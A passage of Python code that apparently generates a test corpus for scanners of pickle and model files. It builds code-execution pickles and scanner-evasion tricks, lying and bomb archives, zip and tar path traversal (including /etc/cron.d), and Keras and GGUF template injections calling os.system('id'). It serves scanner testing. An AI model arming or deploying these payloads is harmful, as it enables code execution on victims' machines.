"""Harmful files, built by code: callables x protocols x shapes x containers, tricks of the unpickler, lying archives.

Nothing here is ever loaded. A payload's arguments are inert words all the same.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from itertools import cycle

WORD = "echo never"

# module, name, arguments: what advisories, papers and the standard library's own documentation give an attacker.
GADGETS: tuple[tuple[str, str, tuple[object, ...]], ...] = (
    ("os", "system", (WORD,)), ("posix", "system", (WORD,)), ("nt", "system", (WORD,)), ("os", "popen", (WORD,)),
    ("os", "execv", ("/bin/true", ["true"])), ("os", "spawnlp", (0, "true", "true")), ("os", "posix_spawn", ("/bin/true", [], {})),
    ("os", "remove", ("gone",)), ("os", "unlink", ("gone",)), ("os", "rename", ("a", "b")), ("os", "chmod", ("a", 511)),
    ("os", "putenv", ("A", "b")), ("os", "startfile", ("a",)), ("os", "kill", (0, 9)), ("os", "symlink", ("a", "b")),
    ("subprocess", "Popen", (WORD,)), ("subprocess", "run", (WORD,)), ("subprocess", "call", (WORD,)),
    ("subprocess", "check_output", (WORD,)), ("subprocess", "getoutput", (WORD,)), ("subprocess", "getstatusoutput", (WORD,)),
    ("builtins", "eval", ("1",)), ("builtins", "exec", ("1",)), ("builtins", "compile", ("1", "a", "exec")),
    ("builtins", "__import__", ("os",)), ("builtins", "open", ("a", "w")), ("builtins", "breakpoint", ()),
    ("builtins", "input", ("a",)), ("__builtin__", "eval", ("1",)), ("__builtin__", "execfile", ("a",)),
    ("__builtin__", "apply", ("a", ())), ("commands", "getoutput", (WORD,)), ("popen2", "popen2", (WORD,)),
    ("runpy", "run_path", ("a",)), ("runpy", "run_module", ("a",)), ("runpy", "_run_code", ("a", {})),
    ("pty", "spawn", (WORD,)), ("timeit", "timeit", ("1",)), ("timeit", "main", (["1"],)), ("code", "interact", ()),
    ("cProfile", "run", ("1",)), ("cProfile", "runctx", ("1", {}, {})), ("profile", "run", ("1",)), ("pdb", "run", ("1",)),
    ("bdb", "Bdb", ()), ("trace", "Trace", ()), ("doctest", "debug_script", ("1",)), ("doctest", "testsource", ("os", "a")),
    ("importlib", "import_module", ("os",)), ("importlib", "reload", ("os",)), ("importlib.util", "spec_from_file_location", ("a", "b")),
    ("imp", "load_source", ("a", "b")), ("pkgutil", "resolve_name", ("os:system",)), ("zipimport", "zipimporter", ("a",)),
    ("pydoc", "locate", ("os.system",)), ("pydoc", "pipepager", ("a", WORD)), ("pydoc", "render_doc", ("os",)),
    ("ctypes", "CDLL", ("a.so",)), ("ctypes", "PyDLL", ("a.so",)), ("ctypes", "cast", (1, 2)), ("_ctypes", "dlopen", ("a.so", 1)),
    ("ctypes.util", "find_library", ("c",)), ("cffi", "FFI", ()), ("_posixsubprocess", "fork_exec", ()),
    ("socket", "create_connection", (("localhost", 9),)), ("socket", "socket", ()), ("urllib.request", "urlopen", ("http://localhost:9",)),
    ("urllib.request", "urlretrieve", ("http://localhost:9", "a")), ("http.client", "HTTPConnection", ("localhost",)),
    ("ftplib", "FTP", ("localhost",)), ("smtplib", "SMTP", ("localhost",)), ("poplib", "POP3", ("localhost",)),
    ("imaplib", "IMAP4", ("localhost",)), ("telnetlib", "Telnet", ("localhost",)), ("xmlrpc.client", "ServerProxy", ("http://localhost",)),
    ("ssl", "get_server_certificate", (("localhost", 9),)), ("webbrowser", "open", ("http://localhost",)), ("requests", "get", ("http://localhost",)),
    ("requests.api", "get", ("http://localhost",)), ("aiohttp", "ClientSession", ()), ("httplib", "HTTPSConnection", ("localhost",)),
    ("urllib2", "urlopen", ("http://localhost",)), ("paramiko", "SSHClient", ()), ("boto3", "client", ("s3",)),
    ("shutil", "rmtree", ("gone",)), ("shutil", "copyfile", ("a", "b")), ("shutil", "move", ("a", "b")), ("shutil", "unpack_archive", ("a",)),
    ("io", "open", ("a", "w")), ("io", "FileIO", ("a", "w")), ("_io", "FileIO", ("a", "w")), ("codecs", "open", ("a", "w")),
    ("tempfile", "mktemp", ()), ("tempfile", "NamedTemporaryFile", ()), ("zipfile", "ZipFile", ("a",)), ("tarfile", "open", ("a",)),
    ("sqlite3", "connect", ("a",)), ("shelve", "open", ("a",)), ("dbm", "open", ("a",)), ("fileinput", "input", ("a",)),
    ("linecache", "getlines", ("/etc/passwd",)), ("mmap", "mmap", (0, 1)), ("logging", "FileHandler", ("a",)),
    ("logging.config", "fileConfig", ("a",)), ("logging.config", "listen", ()), ("distutils.file_util", "write_file", ("a", ["b"])),
    ("distutils.spawn", "spawn", (["true"],)), ("setuptools.sandbox", "run_setup", ("a", [])), ("ensurepip", "bootstrap", ()),
    ("ensurepip", "_run_pip", (["install"],)), ("pip", "main", (["install"],)), ("pip._internal", "main", (["install"],)),
    ("venv", "create", ("a",)), ("site", "addsitedir", ("a",)), ("uuid", "_get_command_stdout", ("true",)),
    ("platform", "popen", (WORD,)), ("_osx_support", "_read_output", (WORD,)), ("_aix_support", "_read_cmd_output", (WORD,)),
    ("_pyrepl.pager", "pipe_pager", ("a", WORD)), ("test.support.script_helper", "assert_python_ok", ("-c", "1")),
    ("idlelib.run", "Executive", ()), ("idlelib.pyshell", "ModifiedInterpreter", ()), ("lib2to3.pgen2.pgen", "ParserGenerator", ("a",)),
    ("lib2to3.pgen2.grammar", "Grammar", ()), ("multiprocessing", "Process", ()), ("multiprocessing.util", "spawnv_passfds", (b"a", [], [])),
    ("threading", "Timer", (0, "a")), ("_thread", "start_new_thread", ("a", ())), ("signal", "signal", (1, "a")), ("atexit", "register", ("a",)),
    ("sys", "setrecursionlimit", (1,)), ("sys", "exit", ()), ("gc", "get_objects", ()), ("inspect", "stack", ()), ("faulthandler", "_sigsegv", ()),
    ("pickle", "loads", (b"N.",)), ("_pickle", "loads", (b"cos\nsystem\n(S'a'\ntR.",)), ("pickle", "Unpickler", ()), ("dill", "loads", (b"cos\nsystem\n(S'a'\ntR.",)),
    ("cloudpickle", "loads", (b"cos\nsystem\n(S'a'\ntR.",)), ("marshal", "loads", (marshal.dumps(1),)), ("types", "FunctionType", ("a", {})), ("types", "CodeType", ()),
    ("joblib", "load", ("a",)), ("torch", "load", ("a",)), ("torch.serialization", "load", ("a",)), ("numpy", "load", ("a",)), ("pandas", "read_pickle", ("a",)),
    ("torch.hub", "load", ("a", "b")), ("torch.hub", "load_state_dict_from_url", ("http://localhost",)), ("torch.utils.cpp_extension", "load", ("a", "b")),
    ("torch.utils.cpp_extension", "load_inline", ("a", "b")), ("torch.jit", "load", ("a",)), ("torch.ops", "load_library", ("a.so",)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ("1", {}, {})), ("torch.utils.collect_env", "run", (WORD,)), ("torch.utils.bottleneck.__main__", "run_cprofile", ("1", {})),
    ("torch._inductor.codecache", "compile_file", ("a", "b", "c")), ("torch.distributed.rpc", "rpc_sync", ("a", "b")),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"N.")), ("torch.fx.graph_module", "reduce_graph_module", ({}, "1")),
    ("torch.package", "PackageImporter", ("a",)), ("torch", "save", ("a", "b")), ("numpy", "fromfile", ("a",)), ("numpy", "memmap", ("a",)), ("numpy", "savetxt", ("a", [])),
    ("numpy.testing._private.utils", "runstring", ("1", {})), ("numpy.testing", "rundocs", ("a",)), ("numpy.f2py.crackfortran", "myeval", ("1",)),
    ("numpy.f2py", "compile", ("a",)), ("numpy.distutils.exec_command", "exec_command", (WORD,)), ("numpy.ctypeslib", "load_library", ("a", "b")),
    ("pandas", "eval", ("1",)), ("pandas.io.common", "get_handle", ("a", "w")), ("pandas", "read_csv", ("http://localhost/a",)),
    ("pandas.core.computation.eval", "eval", ("1",)), ("scipy.io", "loadmat", ("a",)), ("sklearn.datasets", "fetch_openml", ("a",)),
    ("sympy", "sympify", ("1",)), ("sympy.parsing.sympy_parser", "parse_expr", ("1",)), ("yaml", "unsafe_load", ("a",)), ("yaml", "load", ("a",)), ("jinja2", "Template", ("a",)),
    ("transformers", "AutoModel.from_pretrained", ("a",)), ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("a", "b")),
    ("keras.models", "load_model", ("a",)), ("tensorflow", "py_function", ("a",)), ("tensorflow.io", "write_file", ("a", "b")), ("tensorflow.python.ops.io_ops", "read_file", ("a",)),
    ("IPython", "start_ipython", ()), ("IPython.utils.process", "system", (WORD,)), ("fabric", "Connection", ("a",)), ("invoke", "run", (WORD,)), ("pexpect", "spawn", (WORD,)), ("sh", "Command", ("true",)),
    ("django.core.management", "call_command", ("shell",)), ("flask.cli", "shell_command", ()), ("nltk", "download", ("a",)), ("huggingface_hub", "snapshot_download", ("a",)),
    ("my_package.helpers", "run_it", (WORD,)), ("__main__", "payload", (WORD,)), ("evil", "f", ()),
)  # fmt: skip

Shape = Callable[[str, str, tuple[object, ...]], bytes]


def const(value: object) -> bytes:
    """A constant in opcodes of protocol 3 and below."""
    if isinstance(value, str):
        raw = value.encode()
        return b"X" + struct.pack("<I", len(raw)) + raw
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(map(const, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(const, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(const(part) for pair in value.items() for part in pair) + b"u"
    return b"J" + struct.pack("<i", int(str(value)))


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stacked(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL of two short strings."""
    words = [part.encode() for part in (module, attribute)]
    return b"".join(b"\x8c" + bytes([len(word)]) + word for word in words) + b"\x93"


def reduce_text(module: str, attribute: str, arguments: tuple[object, ...]) -> bytes:
    """Protocol 0 as far as its arguments allow."""
    plain = all(isinstance(argument, str) for argument in arguments)
    parts = b"".join(f"S{argument!r}\n".encode() for argument in arguments) if plain else const(arguments)[1:-1]
    return name(module, attribute) + b"(" + parts + b"tR."


def reduce_two(module: str, attribute: str, arguments: tuple[object, ...]) -> bytes:
    """GLOBAL and REDUCE in protocol 2."""
    return b"\x80\x02" + name(module, attribute) + const(arguments) + b"R."


def reduce_four(module: str, attribute: str, arguments: tuple[object, ...]) -> bytes:
    """STACK_GLOBAL, framed, in protocol 4."""
    body = stacked(module, attribute) + b"\x94" + const(arguments) + b"R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def inst(module: str, attribute: str, arguments: tuple[object, ...]) -> bytes:
    """INST: the oldest way to call."""
    return b"(" + b"".join(map(const, arguments)) + f"i{module}\n{attribute}\n".encode() + b"."


def obj(module: str, attribute: str, arguments: tuple[object, ...]) -> bytes:
    """OBJ."""
    return b"\x80\x02(" + name(module, attribute) + b"".join(map(const, arguments)) + b"o."


def in_a_model(module: str, attribute: str, arguments: tuple[object, ...]) -> bytes:
    """The call is thrown away in the middle of an ordinary state dict."""
    call = stacked(module, attribute) + const(arguments) + b"R0"
    return b"\x80\x04ccollections\nOrderedDict\n)R" + call + const({"weight": [1, 2]})[:0] + const("w") + const([1, 2]) + b"s."


SHAPES: tuple[Shape, ...] = (reduce_text, reduce_two, reduce_four, inst, obj, in_a_model)


def torch_zip(pickle: bytes, root: str = "model", method: int = zipfile.ZIP_STORED) -> bytes:
    """A PyTorch archive around a pickle."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        archive.writestr(f"{root}/data.pkl", pickle)
        archive.writestr(f"{root}/byteorder", b"little")
        archive.writestr(f"{root}/data/0", bytes(400))
        archive.writestr(f"{root}/version", b"3\n")
    return made.getvalue()


def npy(pickle: bytes, major: int = 1) -> bytes:
    """An object array around a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    width = 2 if major == 1 else 4
    header += b" " * (-(8 + width + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([major, 0]) + len(header).to_bytes(width, "little") + header + pickle


def zipped(**members: bytes) -> bytes:
    """A deflated zip; `__` in a name stands for a dot."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for key, content in members.items():
            archive.writestr(key.replace("__", "."), content)
    return made.getvalue()


def tarred(*members: tuple[str, bytes], mode: str = "w") -> bytes:
    """A tar."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode=mode) as archive:  # type: ignore[call-overload]
        for path, content in members:
            info = tarfile.TarInfo(path)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return made.getvalue()


def legacy_torch(pickle: bytes) -> bytes:
    """torch.save before 1.6: three small pickles, the object, the keys."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00X\x06\x00\x00\x00systemK\x01s." + pickle + b"\x80\x02]q\x00."


CONTAINERS: Mapping[str, Callable[[bytes], bytes]] = {
    "pkl": lambda p: p,
    "pt": torch_zip,
    "pt-deflated": lambda p: torch_zip(p, method=zipfile.ZIP_DEFLATED),
    "pt-legacy": legacy_torch,
    "npy": npy,
    "npy3": lambda p: npy(p, 3),
    "npz": lambda p: zipped(a__npy=npy(p)),
    "joblib-zlib": zlib.compress,
    "joblib-gzip": gzip.compress,
    "joblib-bz2": bz2.compress,
    "joblib-xz": lzma.compress,
    "joblib-lzma": lambda p: lzma.compress(p, format=lzma.FORMAT_ALONE),
    "tar": lambda p: tarred(("model/a.pkl", p)),
    "tar.gz": lambda p: tarred(("model/a.pt", torch_zip(p)), mode="w:gz"),
    "tar.xz": lambda p: tarred(("model/a.npy", npy(p)), mode="w:xz"),
    "zip-zip": lambda p: zipped(inner__zip=zipped(a__bin=p)),
    "second-pickle": lambda p: b"\x80\x02]q\x00." + p,
    "sixth-pickle": lambda p: legacy_torch(b"\x80\x02}q\x00.") + p,
}


def gadgets() -> Iterator[tuple[str, bytes]]:
    """Every callable in each of two shapes, one bare and one in a container, all in turn."""
    shapes, containers = cycle(SHAPES), cycle(CONTAINERS.items())
    for module, attribute, arguments in GADGETS:
        for _ in range(2):
            shape, (kind, wrap) = next(shapes), next(containers)
            try:
                yield f"{module}.{attribute}-{shape.__name__}-{kind}", wrap(shape(module, attribute, arguments))
            except (UnicodeEncodeError, ValueError):
                continue
        next(shapes)


_SYSTEM = name("os", "system")
_ARGUMENT = const((WORD,))
_CALL = _SYSTEM + _ARGUMENT + b"R"


def _frames(body: bytes, *lengths: int) -> bytes:
    return b"\x80\x04" + b"".join(b"\x95" + struct.pack("<Q", n) for n in lengths) + body


TRICKS: Mapping[str, bytes] = {
    "popped": b"\x80\x02" + _CALL + b"0N.",
    "popped-mark": b"\x80\x02(" + _CALL + b"1N.",
    "cut-after-the-call": b"\x80\x02" + _CALL,
    "bad-opcode-after-the-call": b"\x80\x02" + _CALL + b"\xff\xff",
    "stack-underflow-after-the-call": b"\x80\x02" + _CALL + b"0000",
    "no-stop-but-noise": b"\x80\x02" + _CALL + bytes(range(200, 255)),
    "memo-of-the-callable": b"\x80\x02" + _SYSTEM + b"q\x050h\x05" + _ARGUMENT + b"R.",
    "memo-long": b"\x80\x02" + _SYSTEM + b"r\x00\x00\x01\x000j\x00\x00\x01\x00" + _ARGUMENT + b"R.",
    "memo-text": _SYSTEM + b"p7\n0g7\n" + _ARGUMENT + b"R.",
    "memo-overwritten": b"\x80\x02" + name("builtins", "len") + b"q\x000" + _SYSTEM + b"q\x000h\x00" + _ARGUMENT + b"R.",
    "memoize-counts": b"\x80\x04N\x940N\x940" + _SYSTEM + b"\x940h\x02" + _ARGUMENT + b"R.",
    "memo-of-names": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94" + b"00h\x00h\x01\x93" + _ARGUMENT + b"R.",
    "names-swapped": b"\x80\x04\x8c\x06system\x94\x8c\x02os\x940" + b"0\x8c\x02os\x8c\x06system\x93" + _ARGUMENT + b"R.",
    "names-far-apart": b"\x80\x04\x8c\x02os" + const(1) * 0 + b"\x8c\x03foo0" + b"\x8c\x06system\x93" + _ARGUMENT + b"R.",
    "names-as-binunicode": b"\x80\x04" + const("os") + const("system") + b"\x93" + _ARGUMENT + b"R.",
    "names-as-unicode": b"\x80\x04Vos\nV\\u0073ystem\n\x93" + _ARGUMENT + b"R.",
    "names-as-string": b"\x80\x04S'os'\nS'sys\\x74em'\n\x93" + _ARGUMENT + b"R.",
    "names-as-short-string": b"\x80\x04U\x02osU\x06system\x93" + _ARGUMENT + b"R.",
    "names-as-binunicode8": b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8c\x06system\x93" + _ARGUMENT + b"R.",
    "names-through-a-dup": b"\x80\x04\x8c\x02os\x8c\x06system2\x940" + b"\x93" + _ARGUMENT + b"R.",
    "dotted": b"\x80\x04" + stacked("pathlib", "os.system") + _ARGUMENT + b"R.",
    "dotted-global": b"\x80\x04" + name("shutil", "os.system") + _ARGUMENT + b"R.",
    "dotted-through-torch": b"\x80\x04" + stacked("torch", "os.system") + _ARGUMENT + b"R.",
    "dotted-through-numpy": b"\x80\x04" + stacked("numpy", "os.system") + _ARGUMENT + b"R.",
    "dotted-type": b"\x80\x04" + stacked("collections", "OrderedDict.__class__") + const(("a", (), {})) + b"R.",
    "dotted-subclasses": b"\x80\x04" + stacked("builtins", "object.__subclasses__") + b")R.",
    "dotted-globals": b"\x80\x04" + stacked("collections", "namedtuple.__globals__.get") + const(("_sys",)) + b"R.",
    "inst": b"(S'echo'\nios\nsystem\n.",
    "obj": b"\x80\x02(" + _SYSTEM + const(WORD) + b"o.",
    "newobj": b"\x80\x02" + name("subprocess", "Popen") + _ARGUMENT + b"\x81.",
    "newobj-ex": b"\x80\x04" + name("subprocess", "Popen") + _ARGUMENT + b"}\x92.",
    "build-setstate": b"\x80\x02" + name("types", "SimpleNamespace") + b")R}" + const("__setstate__") + _SYSTEM + b"sb" + const(WORD) + b"b.",
    "build-class": b"\x80\x02" + name("collections", "OrderedDict") + b"N}" + const("__reduce__") + _SYSTEM + b"s\x86b.",
    "reconstructor": b"\x80\x02" + name("copyreg", "_reconstructor") + b"(" + name("subprocess", "Popen") + name("builtins", "object") + b"NtR}" + const("args") + const(WORD) + b"sb.",
    "newobj-by-name": b"\x80\x02" + name("copyreg", "__newobj__") + b"(" + name("subprocess", "Popen") + const(WORD) + b"tR.",
    "python-2-names": b"c__builtin__\neval\n(S'1'\ntR.",
    "python-2-copy-reg": b"\x80\x02" + name("copy_reg", "__newobj__") + b"(" + name("subprocess", "Popen") + const(WORD) + b"tR.",
    "in-a-list": b"\x80\x02](" + const(1) + _CALL + b"e.",
    "as-a-key": b"\x80\x02}" + _CALL + const(1) + b"s.",
    "in-a-set": b"\x80\x04\x8f(" + _CALL + b"\x90.",
    "in-a-tuple": b"\x80\x02" + _CALL + b"\x85.",
    "argument-of-a-harmless-call": b"\x80\x02" + name("collections", "OrderedDict") + b"(](" + _CALL + const(1) + b"\x86etR.",
    "call-of-a-call": b"\x80\x02" + name("builtins", "getattr") + b"(" + name("builtins", "__import__") + const(("os",)) + b"R" + const("system") + b"tR" + _ARGUMENT + b"R.",
    "getattr-chain": b"\x80\x02" + name("builtins", "getattr") + b"(" + name("os", "path") + const("os") + b"tR.",
    "map": b"\x80\x02" + name("builtins", "list") + b"(" + name("builtins", "map") + b"(" + _SYSTEM + const([WORD]) + b"tRtR.",
    "reduce-of-functools": b"\x80\x02" + name("functools", "reduce") + b"(" + _SYSTEM + const([WORD]) + b"tR.",
    "partial": b"\x80\x02" + name("functools", "partial") + b"(" + _SYSTEM + const(WORD) + b"tR)R.",
    "methodcaller": b"\x80\x02" + name("operator", "methodcaller") + const(("system", WORD)) + b"R" + name("os", "path")[:0] + b"(" + name("builtins", "__import__") + const(("os",)) + b"RtR.",
    "attrgetter": b"\x80\x02" + name("operator", "attrgetter") + const(("system",)) + b"R(" + name("importlib", "import_module") + const(("os",)) + b"RtR.",
    "filter": b"\x80\x02" + name("builtins", "tuple") + b"(" + name("builtins", "filter") + b"(" + _SYSTEM + const([WORD]) + b"tRtR.",
    "sorted-by-key": b"\x80\x04" + name("builtins", "max") + const([WORD, WORD]) + b"\x85}" + const("key") + _SYSTEM + b"s\x92.",
    "defaultdict-build": b"\x80\x02" + name("collections", "defaultdict") + b"(" + name("os", "getcwd") + b"tR" + const("a") + const(1) + b"s.",
    "nested-loads": b"\x80\x03" + name("pickle", "loads") + const((b"\x80\x02" + _CALL + b".",)) + b"R.",
    "nested-load-from-bytes": b"\x80\x03" + name("torch.storage", "_load_from_bytes") + const((b"\x80\x02" + _CALL + b".",)) + b"R.",
    "nested-torch-zip": b"\x80\x03" + name("torch.storage", "_load_from_bytes") + const((torch_zip(b"\x80\x02" + _CALL + b"."),)) + b"R.",
    "nested-base64": b"\x80\x03" + name("pickle", "loads") + b"(" + name("base64", "b64decode") + const((base64.b64encode(b"\x80\x02" + _CALL + b"."),)) + b"RtR.",
    "nested-zlib": b"\x80\x03" + name("pickle", "loads") + b"(" + name("zlib", "decompress") + const((zlib.compress(b"\x80\x02" + _CALL + b"."),)) + b"RtR.",
    "marshalled-code": b"\x80\x03" + name("types", "FunctionType") + b"(" + name("marshal", "loads") + const((marshal.dumps(compile("1", "a", "exec")),)) + b"R}tR)R.",
    "persistent-id-first": b"\x80\x02" + const(("storage", 1)) + b"Q0" + _CALL + b".",
    "persistent-text-first": b"Pabc\n0" + _SYSTEM + b"(S'a'\ntR.",
    "frame-too-short": _frames(_CALL + b".", 3),
    "frame-too-long": _frames(_CALL + b".", 4000),
    "frames-in-a-row": _frames(_CALL + b".", 0, 0, len(_CALL) + 1),
    "frame-ends-in-the-call": b"\x80\x04\x95" + struct.pack("<Q", 10) + _CALL + b".",
    "two-protocols": b"\x80\x02\x80\x04" + _CALL + b".",
    "protocol-in-the-middle": b"N0\x80\x05" + _CALL + b".",
    "protocol-0-with-new-opcodes": b"(" + stacked("os", "system")[0:] + const(WORD) + b"\x85R.",
    "protocol-lies": b"\x80\x00" + stacked("os", "system") + _ARGUMENT + b"R.",
    "spaces-in-the-name": b"\x80\x02cos \nsystem\n" + _ARGUMENT + b"R." + _CALL,
    "long-constant-first": b"\x80\x02B" + struct.pack("<I", 9000) + b"x" * 9000 + b"0" + _CALL + b".",
    "long-text-first": b"V" + b"x" * 9000 + b"\n0" + _SYSTEM + b"(S'a'\ntR.",
    "many-opcodes-first": b"\x80\x02" + b"N0" * 40_000 + _CALL + b".",
    "memo-bomb": b"\x80\x02]" + b"".join(b"q" + bytes([i]) + b"0](" + b"h" + bytes([i]) + b"h" + bytes([i]) + b"e" for i in range(60)) + b"0" + _CALL + b".",
    "bytearray8": b"\x80\x05\x96" + struct.pack("<Q", 4) + b"abcd0" + _CALL + b".",
    "huge-long": b"\x80\x02\x8b" + struct.pack("<i", 3000) + b"\x01" * 3000 + b"0" + _CALL + b".",
    "extension-code": b"\x80\x02\x82\x010" + _CALL + b".",
    "pandas-unpickler": b"\x80\x03" + name("pandas.compat.pickle_compat", "loads") + const((b"\x80\x02" + _CALL + b".",)) + b"R.",
    "weakref-callback": b"\x80\x02" + name("weakref", "finalize") + b"(" + name("types", "SimpleNamespace") + b")R" + _SYSTEM + const(WORD) + b"tR.",
    "enum-functional": b"\x80\x02" + name("builtins", "type") + b"(" + const("A") + b")}" + const("__del__") + _SYSTEM + b"stR.",
}  # fmt: skip


def tricks() -> Iterator[tuple[str, bytes]]:
    """What an unpickler does and a scanner of names doesn't."""
    yield from TRICKS.items()


_EVIL = b"\x80\x02" + _CALL + b"."


def _flip(content: bytes, at: int, mask: int = 1) -> bytes:
    return content[:at] + bytes([content[at] ^ mask]) + content[at + 1 :]


def _after(content: bytes, mark: bytes, offset: int) -> int:
    return content.index(mark) + offset


def _lying_zips() -> Iterator[tuple[str, bytes]]:
    whole = torch_zip(_EVIL)
    central = whole.index(b"PK\1\2")
    yield "zip-crc-local", _flip(whole, 14)
    yield "zip-crc-central", _flip(whole, central + 16)
    yield "zip-crc-both", _flip(_flip(whole, 14), central + 16)
    yield "zip-encrypted-central", _flip(whole, central + 8)
    yield "zip-encrypted-local", _flip(whole, 6)
    yield "zip-encrypted-both", _flip(_flip(whole, 6), central + 8)
    yield "zip-name-local", whole.replace(b"model/data.pkl", b"model/data.txt", 1)
    yield "zip-name-central", whole[:central] + whole[central:].replace(b"model/data.pkl", b"model/data.txt", 1)
    yield "zip-size-local", _flip(whole, 22, 7)
    yield "zip-flag-bits", _flip(whole, central + 8, 0x20)
    yield "zip-disk-number", _flip(whole, whole.rindex(b"PK\5\6") + 4)
    yield "zip-count-short", _flip(_flip(whole, whole.rindex(b"PK\5\6") + 8, 3), whole.rindex(b"PK\5\6") + 10, 3)
    yield "zip-prefix", b"#!/bin/sh\nexit 0\n" + whole
    yield "zip-prefix-image", b"\x89PNG\r\n\x1a\n" + bytes(60) + whole
    yield "zip-suffix", whole + b"\n" * 40
    yield "zip-suffix-long", whole + bytes(70_000)
    yield "zip-no-directory", whole[:central]
    yield "zip-cut", whole[: central + 20]
    yield "zip-twice", zipped(readme__txt=b"words") + whole
    yield "zip-comment", zipped(readme__txt=b"words")[:-2] + struct.pack("<H", 5) + b"hello" + whole
    yield "zip-version", _flip(whole, central + 6, 0x40)
    yield "zip-method-central", _flip(whole, central + 10, 8)
    yield "zip-no-suffix-name", zipped(**{"weights": _EVIL})
    yield "zip-pickle-called-txt", zipped(readme__txt=_EVIL)
    yield "zip-pickle-called-json", zipped(config__json=_EVIL)
    yield "zip-bzip2", _stored(zipfile.ZIP_BZIP2)
    yield "zip-lzma", _stored(zipfile.ZIP_LZMA)
    yield "pickle-then-zip", _EVIL + zipped(readme__txt=b"words")


def _stored(method: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        archive.writestr("a.pkl", _EVIL)
    return made.getvalue()


def _names_and_bombs() -> Iterator[tuple[str, bytes]]:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../evil.py", b"import os\n")
    yield "zip-slip", made.getvalue()
    yield "tar-slip", tarred(("../../evil.py", b"import os\n"))
    yield "tar-absolute", tarred(("/etc/cron.d/evil", b"* * * * *\n"))
    link = io.BytesIO()
    with tarfile.open(fileobj=link, mode="w") as tar:
        info = tarfile.TarInfo("model")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc"
        tar.addfile(info)
    yield "tar-link", link.getvalue()
    bare = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = bare.compress(bytes(1 << 20)) + bare.flush()
    yield "zip-overlap", _overlapping(kernel, 1 << 20, 400)


def _overlapping(body: bytes, size: int, count: int) -> bytes:
    """Many lines of the directory that all point to one member."""
    crc = zlib.crc32(bytes(size))
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(body), size, 1, 0) + b"0" + body
    lines = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(body), size, 4, 0, 0, 0, 0, 0, 0) + b"%04d" % i
        for i in range(count)
    )
    return local + lines + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(lines), len(local), 0)


def containers() -> Iterator[tuple[str, bytes]]:
    """A harmful pickle in every container, in containers that lie, and containers that are harmful themselves."""
    for kind, wrap in CONTAINERS.items():
        yield f"in-{kind}", wrap(_EVIL)
    yield from _lying_zips()
    yield from _names_and_bombs()
    yield "tar-second", tarred(("a.txt", b"words\n")) + tarred(("b.pkl", _EVIL))
    yield "tar-pax", tarred(("x" * 150 + ".pkl", _EVIL))
    yield "gz-gz-gz", gzip.compress(gzip.compress(gzip.compress(_EVIL)))
    yield "gz-two-streams", gzip.compress(_EVIL[:9]) + gzip.compress(_EVIL[9:])
    yield "gz-cut", gzip.compress(_EVIL + bytes(range(256)) * 900)[:-9]
    yield "npy-then-pickle", npy(b"\x80\x02N.")[:128] + _EVIL
    yield "npz-one-of-many", zipped(**{f"a{i}__npy": npy(b"\x80\x02](K\x01e.") for i in range(20)}, b__npy=npy(_EVIL))
    yield "legacy-tar", tarred(("sys_info", b"\x80\x02}q\x00."), ("pickle", _EVIL), ("tensors", b"\x80\x02K\x00."), ("storages", b"\x80\x02K\x00."))
    yield "legacy-tar-storages", tarred(("sys_info", b"\x80\x02}q\x00."), ("pickle", b"\x80\x02N."), ("tensors", b"\x80\x02K\x00."), ("storages", b"\x80\x02K\x01." + _EVIL))


def formats() -> Iterator[tuple[str, bytes]]:
    """Harm in files that are no pickle."""
    lambdas = {"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(marshal.dumps(compile("__import__('os').system('id')", "a", "exec"))).decode(), "defaults": None, "closure": None}}}}
    gadget = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    for key, layer in {"lambda": lambdas, "module": {"module": "os", "class_name": "system", "config": {}}, "function": {"class_name": "Activation", "config": {"activation": gadget}}}.items():
        config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}, "registered_name": None}
        yield f"keras-{key}", zipped(config__json=json.dumps(config).encode(), metadata__json=b'{"keras_version": "3.0.0"}')
    for key, template in {
        "gguf-template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "gguf-template-cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    }.items():
        word, body = b"tokenizer.chat_template", template.encode()
        yield key, b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(word)) + word + struct.pack("<IQ", 8, len(body)) + body
    for key, header, data in (
        ("safetensors-overlap", {"a": [0, 8], "b": [4, 12]}, bytes(12)),
